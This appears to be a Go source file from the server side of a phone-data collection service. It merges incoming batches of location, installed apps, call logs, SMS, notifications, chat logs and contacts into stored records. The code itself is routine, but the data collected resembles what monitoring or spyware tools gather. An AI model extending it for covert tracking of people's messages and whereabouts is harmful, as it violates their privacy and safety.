package hub

import (
	"encoding/json"
	"sort"
	"strings"
	"time"
)

// Strategy selects how an incoming batch merges into the stored blob for a
// category. The mapping is fixed at startup; unknown categories replace the
// whole blob.
type Strategy int

const (
	StrategyReplaceWhole Strategy = iota
	StrategyReplaceLatest
	StrategyAppendCapped
	StrategyAppendChronological
	StrategyDedupContacts
)

const (
	CategoryLocation      = "location"
	CategoryInstalledApps = "installed_apps"
	CategoryCallLogs      = "call_logs"
	CategorySMS           = "sms"
	CategoryNotifications = "notifications"
	CategoryChatLogs      = "chat_logs"
	CategoryContacts      = "contacts"
)

var categoryPolicies = map[string]Strategy{
	CategoryLocation:      StrategyReplaceLatest,
	CategoryInstalledApps: StrategyReplaceWhole,
	CategoryCallLogs:      StrategyReplaceWhole,
	CategorySMS:           StrategyAppendCapped,
	CategoryNotifications: StrategyAppendCapped,
	CategoryChatLogs:      StrategyAppendChronological,
	CategoryContacts:      StrategyDedupContacts,
}

func PolicyFor(category string) Strategy {
	if strategy, known := categoryPolicies[category]; known {
		return strategy
	}
	return StrategyReplaceWhole
}

type GeoPoint struct {
	Lat float64
	Lon float64
}

// DecodePayload canonicalizes the string-or-structured payload shape the
// clients send. A string is first tried as JSON; if it does not decode, the
// raw string itself is the payload. Never errors.
func DecodePayload(raw any) any {
	if s, ok := raw.(string); ok {
		var decoded any
		if err := json.Unmarshal([]byte(s), &decoded); err == nil {
			return decoded
		}
		return s
	}
	return raw
}

func asSequence(v any) []any {
	if v == nil {
		return nil
	}
	if seq, ok := v.([]any); ok {
		return seq
	}
	return []any{v}
}

// decodeStoredSequence reads the prior blob for append strategies. An
// unreadable prior blob is treated as empty rather than aborting the write.
func decodeStoredSequence(blob []byte) []any {
	if len(blob) == 0 {
		return nil
	}
	var seq []any
	if err := json.Unmarshal(blob, &seq); err != nil {
		return nil
	}
	return seq
}

// Reconcile computes the full next blob for (category, rawPayload, existing).
// It is a pure function of its inputs; the returned GeoPoint is non-nil only
// when a location batch carried usable coordinates.
func Reconcile(category string, rawPayload any, existing []byte, cfg Config, now time.Time) ([]byte, *GeoPoint, error) {
	decoded := DecodePayload(rawPayload)

	switch PolicyFor(category) {
	case StrategyReplaceLatest:
		return replaceLatest(decoded, existing)
	case StrategyAppendCapped:
		return appendCapped(decoded, existing, cfg.AppendCap)
	case StrategyAppendChronological:
		return appendChronological(decoded, existing, cfg.ChatLogCap, now)
	case StrategyDedupContacts:
		return dedupContacts(decoded)
	default:
		blob, err := json.Marshal(decoded)
		return blob, nil, err
	}
}

func replaceLatest(decoded any, existing []byte) ([]byte, *GeoPoint, error) {
	seq := asSequence(decoded)
	if len(seq) == 0 {
		return existing, nil, nil
	}

	latest := seq[len(seq)-1]
	blob, err := json.Marshal(latest)
	if err != nil {
		return nil, nil, err
	}

	var geo *GeoPoint
	if fields, ok := latest.(map[string]any); ok {
		lat, hasLat := fields["lat"].(float64)
		lon, hasLon := fields["lon"].(float64)
		if hasLat && hasLon {
			geo = &GeoPoint{Lat: lat, Lon: lon}
		}
	}
	return blob, geo, nil
}

func appendCapped(decoded any, existing []byte, limit int) ([]byte, *GeoPoint, error) {
	incoming := asSequence(decoded)

	merged := make([]any, 0, len(incoming))
	merged = append(merged, incoming...)
	merged = append(merged, decodeStoredSequence(existing)...)
	if len(merged) > limit {
		merged = merged[:limit]
	}

	blob, err := json.Marshal(merged)
	return blob, nil, err
}

func appendChronological(decoded any, existing []byte, limit int, now time.Time) ([]byte, *GeoPoint, error) {
	incoming := asSequence(decoded)
	for _, entry := range incoming {
		fields, ok := entry.(map[string]any)
		if !ok {
			continue
		}
		if _, stamped := fields["received_at"]; !stamped {
			fields["received_at"] = now.UTC().Format(time.RFC3339)
		}
	}

	merged := decodeStoredSequence(existing)
	merged = append(merged, incoming...)
	if len(merged) > limit {
		merged = merged[len(merged)-limit:]
	}

	blob, err := json.Marshal(merged)
	return blob, nil, err
}

var phoneStripper = strings.NewReplacer(" ", "", "-", "")

func normalizePhone(fields map[string]any) string {
	for _, key := range []string{"number", "phone"} {
		if raw, ok := fields[key].(string); ok {
			if number := phoneStripper.Replace(strings.TrimSpace(raw)); number != "" {
				return number
			}
		}
	}
	return ""
}

func contactName(fields map[string]any) string {
	if name, ok := fields["name"].(string); ok {
		return name
	}
	return ""
}

// dedupContacts keeps the first entry per normalized phone number, drops
// entries without a usable number, and sorts by name. Prior state is
// replaced, never merged.
func dedupContacts(decoded any) ([]byte, *GeoPoint, error) {
	seen := make(map[string]bool)
	contacts := make([]map[string]any, 0)

	for _, entry := range asSequence(decoded) {
		fields, ok := entry.(map[string]any)
		if !ok {
			continue
		}
		number := normalizePhone(fields)
		if number == "" || seen[number] {
			continue
		}
		seen[number] = true
		contacts = append(contacts, fields)
	}

	sort.SliceStable(contacts, func(i, j int) bool {
		return contactName(contacts[i]) < contactName(contacts[j])
	})

	blob, err := json.Marshal(contacts)
	return blob, nil, err
}
